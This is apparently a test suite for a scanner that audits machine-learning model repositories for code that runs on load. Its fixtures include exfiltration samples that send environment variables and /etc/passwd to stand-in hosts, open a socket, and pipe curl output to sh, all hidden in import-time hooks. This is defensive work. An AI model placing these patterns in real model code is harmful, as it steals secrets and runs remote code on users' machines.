"""What runs when a model loads: the load graph, import-time semantics, everything that reaches out,
and the precision classes (examples, notebooks, literals, constant tables). Each hostile case is
written as real-shaped remote code and has a benign twin that must stay below medium. Files are
written at test time; line numbers are computed from the text written."""
from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from auditor.model import AuditResult, Finding, Options, Severity
from auditor.parsers import loadgraph
from auditor.pipeline import audit
from auditor.scanners.code import findings_for_source


def _write(root: Path, files: dict[str, str | bytes | dict]) -> Path:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, dict):
            path.write_text(json.dumps(content))
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(textwrap.dedent(content))
    return root


def _audit(root: Path, **options) -> AuditResult:
    return audit(str(root), Options(engines=("auditor",), **options))


def _of(result: AuditResult, file: str, rule: str | None = None) -> list[Finding]:
    return [f for f in result.findings if f.file == file and (rule is None or f.rule == rule)]


def _line(text: str, marker: str) -> int:
    return next(n for n, line in enumerate(textwrap.dedent(text).splitlines(), start=1) if marker in line)


# --- the load graph ---------------------------------------------------------------------------------------

CONFIG = {"model_type": "quasar", "architectures": ["QuasarForCausalLM"],
          "auto_map": {"AutoConfig": "configuration_quasar.QuasarConfig",
                       "AutoModelForCausalLM": "modeling_quasar.QuasarForCausalLM"},
          "text_config": {"model_type": "quasar_text",
                          "auto_map": {"AutoModel": "other-org/quasar-text--modeling_text.QuasarTextModel"}}}

CONFIGURATION = '''\
from transformers import PretrainedConfig


class QuasarConfig(PretrainedConfig):
    model_type = "quasar"

    def __init__(self, hidden_size=4096, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''

MODELING = '''\
import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_quasar import QuasarConfig
from .quasar_utils import rotary


class QuasarForCausalLM(PreTrainedModel):
    config_class = QuasarConfig

    def __init__(self, config):
        super().__init__(config)
        self.lm_head = nn.Linear(config.hidden_size, 32000, bias=False)

    def forward(self, input_ids):
        return self.lm_head(rotary(input_ids))
'''

UTILS = '''\
import os
import requests

requests.post("https://telemetry.quasar-ai.example.net/v1", json=dict(os.environ))   # BEACON


def rotary(x):
    return x
'''

DEMO = '''\
import requests
from transformers import AutoModelForCausalLM

requests.post("https://telemetry.quasar-ai.example.net/v1", json={})   # DEMO-POST
model = AutoModelForCausalLM.from_pretrained("quasar/quasar-7b", trust_remote_code=True)
'''


@pytest.fixture(scope="module")
def graph_result(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
    root = _write(tmp_path_factory.mktemp("graph"), {
        "config.json": CONFIG, "configuration_quasar.py": CONFIGURATION, "modeling_quasar.py": MODELING,
        "quasar_utils.py": UTILS, "examples/web_demo.py": DEMO, "sample_finetune.py": DEMO,
        "adapter/adapter_config.json": {"peft_type": "LORA", "auto_mapping": {
            "base_model_class": "QuasarLora", "parent_library": "quasar_peft"}},
        "adapter/quasar_peft.py": "import socket\nsocket.create_connection(('203.0.113.9', 4444))\n",
    })
    return _audit(root)


def test_import_on_the_load_path_is_high_and_says_the_path(graph_result):
    beacon = _of(graph_result, "quasar_utils.py", "CODE-NETWORK-CALL")
    assert len(beacon) == 1 and beacon[0].severity == Severity.HIGH
    assert beacon[0].location == f"line {_line(UTILS, 'BEACON')}"
    assert "loaded via auto_map.AutoModelForCausalLM (config.json) -> modeling_quasar.py -> quasar_utils.py" \
        in beacon[0].evidence


def test_the_same_call_in_examples_is_low(graph_result):
    for file in ("examples/web_demo.py", "sample_finetune.py"):
        found = _of(graph_result, file)
        assert found, file
        assert all(f.severity <= Severity.LOW for f in found), [(f.rule, f.severity) for f in found]
        post = next(f for f in found if f.rule == "CODE-NETWORK-CALL")
        assert "not loaded with the model" in post.evidence


def test_sub_config_and_peft_auto_mapping_are_entry_points(graph_result):
    cross = _of(graph_result, "config.json", "AUTOMAP-CROSS-REPO")
    assert [f.location for f in cross] == ["text_config.auto_map.AutoModel"]
    peft = _of(graph_result, "adapter/quasar_peft.py", "CODE-NETWORK-CALL")
    assert peft and peft[0].severity == Severity.HIGH
    assert "auto_mapping (adapter/adapter_config.json)" in peft[0].evidence
    roles = graph_result.facts["code"]["roles"]
    assert roles["modeling_quasar.py"] == roles["quasar_utils.py"] == "load"
    assert roles["examples/web_demo.py"] == "example"


def test_spec_loaded_non_python_file_is_analyzed_as_code(tmp_path):
    loader = '''\
    import importlib.util
    import os

    _here = os.path.dirname(__file__)
    spec = importlib.util.spec_from_file_location("kern", os.path.join(_here, "kernels.bin"))
    kern = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(kern)
    '''
    payload = "import subprocess\nsubprocess.run(['sh', '-c', 'curl https://x.example.net | sh'])\n"
    _write(tmp_path, {"config.json": {"auto_map": {"AutoModel": "modeling_k.M"}}, "modeling_k.py": loader,
                      "kernels.bin": payload})
    result = _audit(tmp_path)
    hidden = _of(result, "kernels.bin", "CODE-PROCESS")
    assert hidden and hidden[0].severity == Severity.HIGH
    assert "modeling_k.py -> kernels.bin" in hidden[0].evidence
    assert result.facts["code"]["loaded_as_code"] == ["kernels.bin"]


def test_loadgraph_is_pure_and_follows_relative_packages():
    entries = list(loadgraph.entries("sub/config.json", {"vision_config": {"auto_map": {"AutoModel": "vis.V"}}}))
    assert [(e.where, e.file) for e in entries] == [("vision_config.auto_map.AutoModel", "sub/vis.py")]
    modules = {"sub/vis.py": [(1, "", ("layers",), 1)], "sub/layers.py": [(2, "common.ops", ("x",), 1)]}
    graph = loadgraph.LoadGraph(["sub/vis.py", "sub/layers.py", "common/ops.py", "tests/test_vis.py"],
                                entries, modules, {})
    assert graph.role("common/ops.py") == "load"
    assert graph.why("common/ops.py").endswith("sub/vis.py -> sub/layers.py -> common/ops.py")
    assert graph.role("tests/test_vis.py") == "example"
    assert loadgraph.path_role(".github/workflows/sync.yml") == "ci"
    assert loadgraph.path_role("data/train.jsonl") == "data"


# --- import-time semantics --------------------------------------------------------------------------------

REACH = 'requests.post("https://c2.example.net/x", data=open("/etc/passwd").read())'
IMPORT_TIME = {
    "decorator": f"import requests\ndef register(cls):\n    {REACH}\n    return cls\n@register\nclass A:\n    pass\n",
    "decorator-factory": "import requests\ndef register(name):\n    def wrap(cls):\n"
                         f"        {REACH}\n        return cls\n    return wrap\n@register('a')\nclass A:\n    pass\n",
    "metaclass": f"import requests\nclass Meta(type):\n    def __new__(mcs, name, bases, ns):\n        {REACH}\n"
                 "        return super().__new__(mcs, name, bases, ns)\nclass A(metaclass=Meta):\n    pass\n",
    "init-subclass": f"import requests\nclass Base:\n    def __init_subclass__(cls, **kw):\n        {REACH}\n"
                     "class A(Base):\n    pass\n",
    "class-body": f"import requests\nclass A:\n    token = {REACH}\n",
    "default-argument": f"import requests\ndef f(x={REACH}):\n    return x\n",
    "thread": f"import threading, requests\ndef beacon():\n    {REACH}\n"
              "threading.Thread(target=beacon, daemon=True).start()\n",
    "thread-subclass": f"import threading, requests\nclass T(threading.Thread):\n    def run(self):\n        {REACH}\n"
                       "T().start()\n",
    "timer": f"import threading, requests\ndef beacon():\n    {REACH}\nthreading.Timer(30, beacon).start()\n",
    "atexit": f"import atexit, requests\ndef beacon():\n    {REACH}\natexit.register(beacon)\n",
    "settrace": f"import sys, requests\ndef tracer(frame, event, arg):\n    {REACH}\n    return None\n"
                "sys.settrace(tracer)\n",
    "import-hook": f"import sys, requests\nclass Finder:\n    def find_spec(self, name, path, target=None):\n"
                   f"        {REACH}\n        return None\nsys.meta_path.insert(0, Finder())\n",
    "called-at-import": f"import requests\ndef _setup():\n    {REACH}\n_setup()\n",
    "pretrained-config": "import requests\nfrom transformers import PretrainedConfig\n"
                         f"class C(PretrainedConfig):\n    def __init__(self, **kw):\n        {REACH}\n"
                         "        super().__init__(**kw)\n",
}


@pytest.mark.parametrize("case", sorted(IMPORT_TIME))
def test_code_run_by_importing_counts_as_import_time(case):
    found, _ = findings_for_source(IMPORT_TIME[case], "modeling_x.py", role="load")
    network = [f for f in found if f.rule == "CODE-NETWORK-CALL"]
    assert network and network[0].severity == Severity.HIGH, (case, [(f.rule, f.severity) for f in found])
    assert "runs at import time" in network[0].evidence or "runs on load" in network[0].evidence


@pytest.mark.parametrize("case", ["plain-function", "main-guard", "unregistered-method"])
def test_benign_twins_of_import_time_stay_below_high(case):
    source = {"plain-function": f"import requests\ndef beacon():\n    {REACH}\n",
              "main-guard": f"import requests\nif __name__ == '__main__':\n    {REACH}\n",
              "unregistered-method": f"import requests\nclass Finder:\n    def find_spec(self, n, p, t=None):\n"
                                     f"        {REACH}\n"}[case]
    found, _ = findings_for_source(source, "modeling_x.py", role="load")
    network = [f for f in found if f.rule == "CODE-NETWORK-CALL"]
    assert network and network[0].severity == Severity.MEDIUM and "runs when called" in network[0].evidence
    demo, _ = findings_for_source(source, "examples/demo.py", role="example")
    assert all(f.severity < Severity.MEDIUM for f in demo)


def test_monkeypatching_a_library_is_import_time():
    source = ("import requests\n_orig = requests.Session.request\n"
              "def _request(self, method, url, **kw):\n    requests.post('https://c2.example.net', json={'u': url})\n"
              "    return _orig(self, method, url, **kw)\nrequests.Session.request = _request\n")
    found, _ = findings_for_source(source, "modeling_x.py", role="load")
    patch = [f for f in found if f.rule == "CODE-MONKEYPATCH"]
    assert patch and patch[0].severity == Severity.HIGH and "requests.Session.request" in patch[0].evidence
    assert any(f.rule == "CODE-NETWORK-CALL" and f.severity == Severity.HIGH for f in found)
    benign, _ = findings_for_source("import torch\ntorch.backends.cudnn.benchmark = True\n", "modeling_x.py")
    assert not benign


def test_auto_map_spelled_with_json_escapes_is_still_an_entry_point(tmp_path):
    (tmp_path / "config.json").write_text('{"auto\\u005fmap": {"AutoModel": "modeling_e.M"}}')
    (tmp_path / "modeling_e.py").write_text("import os\nos.system('id')\n")
    result = _audit(tmp_path)
    process = _of(result, "modeling_e.py", "CODE-PROCESS")
    assert process and "loaded via auto_map.AutoModel" in process[0].evidence
